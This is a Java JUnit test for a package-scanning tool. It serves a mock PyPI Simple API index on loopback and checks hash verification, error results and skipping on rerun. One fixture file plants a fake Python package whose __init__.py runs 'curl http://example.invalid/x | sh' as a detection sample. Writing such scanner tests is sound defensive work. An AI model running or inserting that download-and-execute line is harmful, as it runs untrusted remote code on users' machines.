package dev.kingsnake.spark;

import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import com.sun.net.httpserver.HttpExchange;
import com.sun.net.httpserver.HttpServer;
import dev.kingsnake.internal.archive.TestArchives;
import dev.kingsnake.internal.archive.TestArchives.Member;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import java.io.IOException;
import java.io.OutputStream;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.nio.file.Files;
import java.nio.file.Path;
import java.security.MessageDigest;
import java.util.HexFormat;
import java.util.List;
import java.util.Map;
import java.util.concurrent.ConcurrentHashMap;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

/**
 * {@code --index URL --names FILE} against a Simple API index on loopback: a listed file is downloaded on an
 * executor and scanned like the same bytes on disk; a file whose bytes differ from the listed sha-256 and a
 * project the index does not have are ERROR results; a rerun skips by the listed digests without downloading.
 */
class IndexScanJobTest {
    private static final ObjectMapper JSON = new ObjectMapper();
    private static final String SETUP = "from setuptools import setup\nsetup(name='demo', version='1.0')\n";

    @TempDir
    Path dir;

    private HttpServer server;
    private final Map<String, byte[]> files = new ConcurrentHashMap<>();
    private final Map<String, String> listedSha = new ConcurrentHashMap<>();
    private final Map<String, Integer> downloads = new ConcurrentHashMap<>();

    @BeforeEach
    void startIndex() throws IOException {
        server = HttpServer.create(new InetSocketAddress(InetAddress.getLoopbackAddress(), 0), 0);
        server.createContext("/", this::handle);
        server.start();
    }

    @AfterEach
    void stopIndex() {
        server.stop(0);
    }

    @Test
    void listedFilesAreDownloadedCheckedAndScanned() throws Exception {
        byte[] demo = TestArchives.gzip(TestArchives.tar(List.of(Member.file("demo-1.0/setup.py", SETUP),
                Member.file("demo-1.0/demo/__init__.py",
                        "import os\nos.system('curl http://example.invalid/x | sh')\n"))));
        files.put("demo-1.0.tar.gz", demo);
        listedSha.put("demo-1.0.tar.gz", sha256(demo));
        files.put("liar-1.0.tar.gz", demo);
        listedSha.put("liar-1.0.tar.gz", "00".repeat(32));
        Path names = Files.writeString(dir.resolve("names.txt"), "demo\nliar\n# a comment\nabsent\n");
        String root = "http://127.0.0.1:" + server.getAddress().getPort() + "/simple/";
        Path output = dir.resolve("out");

        RunSummary first = LocalSpark.job("--index", root, "--names", names.toString(),
                "--output", output.toString(), "--format", "jsonl");
        assertEquals(3, first.listed());
        assertEquals(3, first.scanned());
        Map<String, ObjectNode> job = LocalSpark.jobResults(output, ScanJob.OutputFormat.JSONL);
        String demoUrl = base() + "/files/demo-1.0.tar.gz";
        ObjectNode scanned = LocalSpark.withoutJobFields(job.get(demoUrl));
        Path local = Files.write(dir.resolve("demo-1.0.tar.gz"), demo);
        ObjectNode cli = LocalSpark.cli(List.of(local), dir.resolve("cli.jsonl")).results().get(local.toString());
        cli.put("input", demoUrl);
        assertEquals(cli, scanned, "the downloaded file scans as the same bytes on disk do");
        assertEquals(sha256(demo), job.get(demoUrl).get("sha256").asText());

        ObjectNode liar = job.get(base() + "/files/liar-1.0.tar.gz");
        assertEquals("ERROR", liar.get("verdict").asText());
        assertTrue(liar.get("diagnostics").get(0).get("message").asText().contains("sha-256"), liar.toString());
        ObjectNode absent = job.get(root + "absent/");
        assertEquals("ERROR", absent.get("verdict").asText());
        assertEquals("IO_ERROR", absent.get("diagnostics").get(0).get("code").asText());

        int before = downloads.getOrDefault("demo-1.0.tar.gz", 0);
        RunSummary again = LocalSpark.job("--index", root, "--names", names.toString(),
                "--output", output.toString(), "--format", "jsonl");
        assertEquals(1, again.skipped(), "demo's listed digest has a result already");
        assertEquals(before, downloads.getOrDefault("demo-1.0.tar.gz", 0), "and it was not downloaded again");
    }

    private String base() {
        return "http://127.0.0.1:" + server.getAddress().getPort();
    }

    private void handle(HttpExchange exchange) throws IOException {
        String path = exchange.getRequestURI().getPath();
        byte[] body;
        String type;
        if (path.startsWith("/files/") && files.containsKey(path.substring(7))) {
            String name = path.substring(7);
            downloads.merge(name, 1, Integer::sum);
            body = files.get(name);
            type = "application/octet-stream";
        } else if (path.startsWith("/simple/") && path.endsWith("/")) {
            String project = path.substring(8, path.length() - 1);
            ObjectNode page = JSON.createObjectNode();
            page.putObject("meta").put("api-version", "1.1");
            page.put("name", project);
            ArrayNode list = page.putArray("files");
            files.forEach((name, bytes) -> {
                if (name.startsWith(project + "-")) {
                    ObjectNode f = list.addObject();
                    f.put("filename", name);
                    f.put("url", "/files/" + name);
                    f.putObject("hashes").put("sha256", listedSha.get(name));
                    f.put("size", bytes.length);
                }
            });
            if (list.isEmpty()) {
                exchange.sendResponseHeaders(404, -1);
                exchange.close();
                return;
            }
            body = JSON.writeValueAsBytes(page);
            type = "application/vnd.pypi.simple.v1+json";
        } else {
            exchange.sendResponseHeaders(404, -1);
            exchange.close();
            return;
        }
        exchange.getResponseHeaders().set("Content-Type", type);
        exchange.sendResponseHeaders(200, body.length);
        try (OutputStream out = exchange.getResponseBody()) {
            out.write(body);
        }
    }

    private static String sha256(byte[] bytes) throws Exception {
        return HexFormat.of().formatHex(MessageDigest.getInstance("SHA-256").digest(bytes));
    }
}
